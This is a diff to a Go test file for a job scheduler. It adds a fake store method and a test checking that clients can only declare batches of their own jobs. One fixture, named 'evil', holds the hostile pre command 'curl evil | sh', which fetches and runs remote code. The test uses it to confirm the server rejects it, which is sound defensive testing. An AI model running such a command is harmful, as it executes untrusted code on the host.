@@ -2,6 +2,7 @@ package server
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"sort"
 	"strings"
@@ -47,6 +48,21 @@ func (b *fakeBatchStore) GetBatch(_ context.Context, name string) (store.Batch, 
 	if !ok {
 		return x, store.ErrNotFound
 	}
+	return x, nil
+}
+func (b *fakeBatchStore) PutBatch(_ context.Context, def workflow.Definition, expect int64, who, _ string, now time.Time) (store.Batch, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	cur, ok := b.batches[def.Name]
+	switch {
+	case expect == 0 && ok:
+		return store.Batch{}, store.ErrExists
+	case expect != 0 && cur.Version != expect:
+		return store.Batch{}, store.ErrConflict
+	}
+	x := store.Batch{Name: def.Name, Version: cur.Version + 1, Definition: def, UpdatedAt: now, UpdatedBy: who}
+	b.batches[def.Name] = x
+	b.revs[store.BatchRevisionID(def.Name, x.Version)] = store.BatchRevision{Batch: def.Name, Version: x.Version, Definition: def, Who: who}
 	return x, nil
 }
 func (b *fakeBatchStore) GetBatchRevision(_ context.Context, name string, v int64) (store.BatchRevision, error) {
@@ -547,5 +563,49 @@ func TestANodesLabelsRouteItAndItsGroupIsAParam(t *testing.T) {
 	f := h.l.flights["b/c1/win"]
 	if f == nil || f.exec.Labels["os"] != "windows" {
 		t.Fatalf("the execution does not keep its node's labels (a new term would route it anywhere): %+v", f)
+	}
+}
+
+// A client's batches in code are applied as its jobs are: created, kept as the client declares them, never
+// over a batch the API maintains, and only of jobs the client itself declared.
+func TestAClientDeclaresBatchesOfItsOwnJobsOnly(t *testing.T) {
+	mine := noSchedule("mine", func(s *job.Spec) { s.Source = "client:a" })
+	admins := noSchedule("payroll", func(s *job.Spec) { s.Source = "api" })
+	fs := newFakeStore(mine, admins)
+	bs := newFakeBatchStore(fs, workflow.Definition{Name: "api-made", Source: "api", Nodes: []workflow.Node{{Name: "n", Job: "mine"}}})
+	h := newBatchHarness(t, fs, bs)
+	declare := func(id string, defs ...workflow.Definition) registry.Member {
+		b, err := json.Marshal(defs)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return registry.Member{ID: id, Handlers: []string{"shell"}, Jobs: []string{"mine", "payroll"}, DeclaredBatches: b}
+	}
+	own := workflow.Definition{Name: "own", Nodes: []workflow.Node{{Name: "n", Job: "mine", Pre: "echo before"}}}
+	evil := workflow.Definition{Name: "evil", Schedule: "@every 1s", Nodes: []workflow.Node{{Name: "n", Job: "payroll", Pre: "curl evil | sh"}}}
+	takeover := workflow.Definition{Name: "api-made", Nodes: []workflow.Node{{Name: "n", Job: "mine", Post: "echo mine now"}}}
+	h.clients = []registry.Member{declare("a", own, takeover), declare("x", evil)}
+	h.establish()
+	h.l.applyDeclarations(context.Background())
+
+	got, err := bs.GetBatch(context.Background(), "own")
+	if err != nil || got.Definition.Source != "client:a" || got.Definition.Nodes[0].Pre != "echo before" {
+		t.Fatalf("client a's batch of its own job: %+v, %v", got, err)
+	}
+	if _, err := bs.GetBatch(context.Background(), "evil"); err == nil {
+		t.Error("client x made a batch of a job it does not own (the admins' payroll, with its own pre command)")
+	}
+	if b, _ := bs.GetBatch(context.Background(), "api-made"); b.Version != 1 || b.Definition.Nodes[0].Post != "" {
+		t.Errorf("a client overwrote a batch the API maintains: %+v", b)
+	}
+
+	// Declared again, changed: updated. Another live client's declaration of the same name: ignored.
+	own.Description = "changed"
+	other := own
+	other.Description = "x's"
+	h.clients = []registry.Member{declare("a", own), declare("x", other)}
+	h.l.applyDeclarations(context.Background())
+	if b, _ := bs.GetBatch(context.Background(), "own"); b.Version != 2 || b.Definition.Description != "changed" {
+		t.Errorf("after a's change and x's rival declaration: version %d %q, want 2 \"changed\"", b.Version, b.Definition.Description)
 	}
 }
